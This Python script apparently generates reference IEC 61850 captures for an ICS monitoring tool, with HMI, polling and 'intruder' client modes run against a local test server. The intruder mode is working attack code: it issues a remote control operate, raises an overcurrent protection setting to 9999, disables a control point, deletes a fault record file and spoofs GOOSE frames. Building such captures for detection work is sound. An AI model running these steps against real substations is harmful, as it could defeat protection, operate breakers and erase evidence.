#!/usr/bin/env python3
"""IEC 61850 MMS clients for icsight's reference captures (the plant's HMI
and an intruder), talking to src/iec61850_server_libiec61850.py.

Two client stacks, neither of them libiec61850 (the server's library):

  py61850 0.6 (pure Python, ISO stack of its own): association, GetNameList,
      GetVariableAccessAttributes, Read, FileDirectory, FileOpen/FileRead/
      FileClose, Conclude. It has no Write, no named variable list services
      and no FileDelete; the intruder's FileDelete is one request built with
      py61850's own BER encoder and sent over its association (libiec61850's
      client has FileDelete, but its close sends the ACSE release and shuts
      the socket without waiting for the answer, so every such connection
      ends in a reset);
  iec61850 0.14 (Python over the iec61850-rust client): the writes (RCB
      attributes, control Oper, settings, configuration),
      DefineNamedVariableList / DeleteNamedVariableList and the reports.

Every TCP connection takes its source address from bind_source.so
(LD_PRELOAD, BIND_SOURCE_ADDR): the script itself binds nothing.

--mode hmi       the HMI's session of iec61850_mms.pcap (no control, setting or
                 configuration write; its only writes are to report control blocks)
--mode poll      the HMI polling in iec61850_attack.pcap: reads every --period s
--mode intruder  the intruder's steps in iec61850_attack.pcap; prints
                 'STEP <n> <name> <unix time> <what>' (tab-separated) per step
                 on stdout and sends the GOOSE frames with scapy
                 (src/iec61850_goose_spoof.py)
"""
import argparse
import asyncio
import os
import sys
import time

import iec61850 as rs
from py61850 import FileTransfer

LD0 = "PlantLDLD0"
PROT = "PlantLDPROT"
CFG_FILE = "COMTRADE/FDR1_TRIP_001.cfg"
DAT_FILE = "COMTRADE/FDR1_TRIP_001.dat"


def say(msg):
    print(msg, file=sys.stderr, flush=True)


# ---------------------------------------------------------------------------
# py61850
# ---------------------------------------------------------------------------
def py_browse(c, sweep_attributes):
    """GetNameList of domains, variables and variable lists; GVAA of logical nodes."""
    lds = c.get_server_directory()
    say(f"py61850 GetNameList domains: {lds}")
    lns = {}
    for ld in lds:
        names = c.get_logical_device_directory(ld)
        sets = c.get_data_set_directory(ld)
        lns[ld] = [n for n in names if "$" not in n]
        say(f"py61850 GetNameList {ld}: {len(names)} variables, logical nodes {lns[ld]}, data sets {sets}")
    if sweep_attributes:
        for ld in lds:
            for ln in lns[ld]:
                c.get_data_definition(ld, ln)
        say(f"py61850 GetVariableAccessAttributes of {sum(len(v) for v in lns.values())} logical nodes")
    else:
        c.get_data_definition(LD0, "GGIO1")
        c.get_data_definition(LD0, "LLN0$DC$NamPlt")
        say("py61850 GetVariableAccessAttributes GGIO1, LLN0$DC$NamPlt")
    return lds


def py_read_process(c):
    vals = c.read_many(LD0, ["GGIO1$MX$AnIn1$mag$f", "GGIO1$MX$AnIn2$mag$f", "GGIO1$ST$Ind1$stVal",
                             "GGIO1$ST$Ind2$stVal", "GGIO1$ST$SPCSO1$stVal"])
    return vals


# ---------------------------------------------------------------------------
# iec61850 (iec61850-rust)
# ---------------------------------------------------------------------------
async def rs_connect(host, port):
    return await rs.IedConnection.connect(f"{host}:{port}", timeout_ms=5000, request_timeout_ms=5000)


async def rs_define_data_set(c, ref, members):
    """CreateDataSet -> DefineNamedVariableList.

    libiec61850 answers with defineNamedVariableList-Response [11] IMPLICIT
    NULL (0x8B 00), as ISO 9506-2 has it; iec61850-rust 0.14 expects a
    constructed tag (0xAB) and reports a parse error although the server made
    the list. That one error is accepted here, and the list is checked with
    a GetNamedVariableListAttributes.
    """
    try:
        await c.create_data_set(ref, members)
    except rs.IedServiceError as e:
        if "expected=0xAB, actual=0x8B" not in str(e):
            raise
    d = await c.get_data_set_directory(ref)
    if len(d.members) != len(members):
        raise SystemExit(f"data set {ref}: server holds {len(d.members)} members, wanted {len(members)}")
    return d


async def hmi_reports(host, port, listen_s):
    c = await rs_connect(host, port)
    members = [rs.DataSetMember(object_ref=f"{LD0}/GGIO1.AnIn1.mag.f", fc=rs.FC.MX),
               rs.DataSetMember(object_ref=f"{LD0}/GGIO1.AnIn2.mag.f", fc=rs.FC.MX),
               rs.DataSetMember(object_ref=f"{LD0}/GGIO1.Ind1.stVal", fc=rs.FC.ST)]
    ds = f"{LD0}/LLN0.HmiTrend"
    await rs_define_data_set(c, ds, members)
    vals = await c.get_data_set_values(ds)
    say(f"iec61850-rust DefineNamedVariableList {ds} (3 members), read: {vals}")
    deleted = await c.delete_data_set(ds)
    say(f"iec61850-rust DeleteNamedVariableList {ds}: {deleted}")
    if not deleted:
        raise SystemExit("the server did not delete the data set")

    reports = []
    urcb, brcb = f"{LD0}/LLN0.RP.urcbMeas01", f"{LD0}/LLN0.BR.brcbEvents01"
    for ref in (urcb, brcb):
        await c.install_report_handler(ref, reports.append)
    u = await c.get_rcb_values(urcb)
    u.rpt_ena = True
    await c.set_rcb_values(u, rs.RcbWriteMask.fields("rpt_ena"))
    b = await c.get_rcb_values(brcb)
    b.rpt_ena = True
    await c.set_rcb_values(b, rs.RcbWriteMask.fields("rpt_ena"))
    await c.trigger_gi(brcb)
    end = time.monotonic() + listen_s
    while time.monotonic() < end:
        await c.poll_reports(200)
    u.rpt_ena = False
    await c.set_rcb_values(u, rs.RcbWriteMask.fields("rpt_ena"))
    b.rpt_ena = False
    await c.set_rcb_values(b, rs.RcbWriteMask.fields("rpt_ena"))
    await c.poll_reports(300)
    kinds = sorted({r.rpt_id for r in reports})
    say(f"iec61850-rust reports: {len(reports)} ({', '.join(kinds)})")
    if not any("urcbMeas01" in k for k in kinds) or not any("brcbEvents01" in k for k in kinds):
        raise SystemExit("expected reports from both urcbMeas01 and brcbEvents01")
    await c.disconnect()


def run_hmi(a):
    # Session 1: py61850 browses, reads and fetches a fault record's .cfg file.
    with FileTransfer(a.host, port=a.port, timeout=10) as c:
        py_browse(c, sweep_attributes=False)
        say(f"py61850 Read AnIn1, AnIn2, Ind1, Ind2, SPCSO1: {py_read_process(c)}")
        say(f"py61850 Read LLN0$DC$NamPlt: {c.read_value(LD0, 'LLN0$DC$NamPlt')}")
        say(f"py61850 Read data set LLN0$Events: {c.read_data_set(LD0, 'LLN0$Events')}")
        say(f"py61850 Read PTOC1 StrVal: {c.read_value(PROT, 'PTOC1$SP$StrVal$setMag$f')}")
        top = c.file_directory()
        sub = c.file_directory("COMTRADE/")
        say(f"py61850 FileDirectory: {[e.name for e in top]} COMTRADE/: {[e.name for e in sub]}")
        data = c.get_file(CFG_FILE)
        say(f"py61850 FileOpen/FileRead/FileClose {CFG_FILE}: {len(data)} bytes")
        time.sleep(0.3)
    time.sleep(0.5)
    # Session 2: iec61850-rust defines and deletes a data set, then takes reports.
    asyncio.run(hmi_reports(a.host, a.port, a.listen))


def run_poll(a):
    with FileTransfer(a.host, port=a.port, timeout=10) as c:
        end = time.monotonic() + a.duration
        n = 0
        while time.monotonic() < end:
            py_read_process(c)
            n += 1
            time.sleep(a.period)
        say(f"py61850 poll: {n} reads of AnIn1, AnIn2, Ind1, Ind2, SPCSO1")


# ---------------------------------------------------------------------------
# intruder
# ---------------------------------------------------------------------------
class Steps:
    def __init__(self, gap):
        self.n, self.gap = 0, gap

    def pause(self):
        if self.n:
            time.sleep(self.gap)

    def step(self, name, what, pause=True):
        if pause:
            self.pause()
        self.n += 1
        print(f"STEP\t{self.n}\t{name}\t{time.time():.6f}\t{what}", flush=True)
        say(f"step {self.n}: {name}")


async def intruder_writes(a, st):
    c = await rs_connect(a.host, a.port)
    st.step("control_operate",
            f"MMS Write {LD0} GGIO1$CO$SPCSO1$Oper (ctlVal true, orCat 3 remote-control, orIdent "
            "\"eng\"): a direct-operate command; write success, then SPCSO1 stVal true")
    co = c.create_control_object(f"{LD0}/GGIO1.SPCSO1", rs.ControlModel.DIRECT_NORMAL)
    co.set_origin(rs.OriginValue(or_cat=3, or_ident=b"eng"))
    out = await co.operate(True)
    if not out.success:
        raise SystemExit(f"operate refused: {out}")
    st.step("setting_write",
            f"MMS Write {PROT} PTOC1$SP$StrVal$setMag$f := 9999.0 (overcurrent start value, FC SP; "
            "it was 400.0); write success")
    await c.write_float(f"{PROT}/PTOC1.StrVal.setMag.f", rs.FC.SP, 9999.0)
    st.step("config_write",
            f"MMS Write {LD0} GGIO1$CF$SPCSO2$ctlModel := 0 (status-only: SPCSO2 can no longer be "
            "operated, FC CF); write success")
    await c.write_int32(f"{LD0}/GGIO1.SPCSO2.ctlModel", rs.FC.CF, 0)
    await c.disconnect()


def intruder_file_delete(a):
    """FileDelete, which py61850 does not offer: the request is built with py61850's own
    BER and FileName encoders (fileDelete-Request [76] IMPLICIT FileName) and sent
    through its association like any of its services."""
    from py61850.core import ber
    from py61850.mms import pdu
    with FileTransfer(a.host, port=a.port, timeout=10) as c:
        resp = c._transact(ber.tlv(0xBF4C, pdu.file_name(DAT_FILE)))
        if resp[:2] != b"\x9f\x4c":  # fileDelete-Response [76] IMPLICIT NULL
            raise SystemExit(f"unexpected answer to FileDelete: {resp.hex()}")


def run_intruder(a):
    # scapy (for the GOOSE steps) takes a second to import: before the steps, not inside one
    from iec61850_goose_spoof import spoof_sqnum_reset, spoof_stnum_jump
    time.sleep(a.delay)
    st = Steps(a.gap)
    with FileTransfer(a.host, port=a.port, timeout=10) as c:
        st.step("recon_name_lists",
                "MMS initiate; GetNameList domains (vmd-specific), then named variables and named "
                f"variable lists of {LD0} and {PROT}; answered")
        lds = c.get_server_directory()
        lns = {}
        for ld in lds:
            lns[ld] = [n for n in c.get_logical_device_directory(ld) if "$" not in n]
            c.get_data_set_directory(ld)
        st.step("recon_attributes",
                "GetVariableAccessAttributes of every logical node: GGIO1, LLN0, LPHD1 of "
                f"{LD0}, LLN0, PTOC1 of {PROT} (the IED's whole type tree); answered")
        for ld in lds:
            for ln in lns[ld]:
                c.get_data_definition(ld, ln)
        st.step("read_gocb",
                f"MMS Read {LD0} LLN0$GO$gcbEvents (GoEna, GoID, DatSet, ConfRev, DstAddress ...) "
                "and the data set LLN0$Events: what the GOOSE publisher sends; answered")
        c.read(LD0, "LLN0$GO$gcbEvents")
        c.read_data_set(LD0, "LLN0$Events")
        st.step("file_directory",
                "MMS FileDirectory of / and COMTRADE/ (fault records); answered; then Conclude")
        c.file_directory()
        c.file_directory("COMTRADE/")
    asyncio.run(intruder_writes(a, st))
    st.step("file_delete",
            f"MMS initiate, FileDelete {DAT_FILE} (the fault record's samples), Conclude, on an "
            "association of its own; answered (file gone)")
    intruder_file_delete(a)
    if a.files and os.path.exists(os.path.join(a.files, DAT_FILE)):
        raise SystemExit(f"{DAT_FILE} is still on the server")
    # The GOOSE steps wait for the publisher's next frame (up to its 1 s heartbeat): each
    # step is logged when its first frame goes out.
    st.pause()
    spoof_stnum_jump(a.iface, lambda: st.step(
        "goose_stnum_jump",
        "4 spoofed GOOSE frames (the publisher's MAC, VLAN, appid 0x1000, gocbRef, datSet, goID): "
        "stNum = the publisher's + 100, sqNum 0, 1, 2, 3 (about 4, 8, 16 ms apart), Ind1 false "
        "(breaker open) and SPCSO1 true", pause=False))
    st.pause()
    spoof_sqnum_reset(a.iface, lambda: st.step(
        "goose_sqnum_reset",
        "1 spoofed GOOSE frame: the publisher's current stNum, sqNum 0 (sequence reset without "
        "a state change), the publisher's data", pause=False))


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--host", default="127.0.0.10")
    ap.add_argument("--port", type=int, default=102)
    ap.add_argument("--mode", choices=("hmi", "poll", "intruder"), required=True)
    ap.add_argument("--listen", type=float, default=5.0, help="hmi: seconds of reports")
    ap.add_argument("--duration", type=float, default=30.0, help="poll: seconds")
    ap.add_argument("--period", type=float, default=2.0, help="poll: seconds between reads")
    ap.add_argument("--delay", type=float, default=8.0, help="intruder: seconds before step 1")
    ap.add_argument("--gap", type=float, default=1.5, help="intruder: seconds between steps")
    ap.add_argument("--iface", default="lo", help="intruder: interface for the GOOSE frames")
    ap.add_argument("--files", default="", help="intruder: the server's file store, to check the delete")
    a = ap.parse_args()
    {"hmi": run_hmi, "poll": run_poll, "intruder": run_intruder}[a.mode](a)
    # iec61850-rust's runtime sometimes crashes while the interpreter tears down (seen once
    # in several runs, after all work was done): leave without the teardown.
    sys.stdout.flush()
    sys.stderr.flush()
    os._exit(0)


if __name__ == "__main__":
    main()
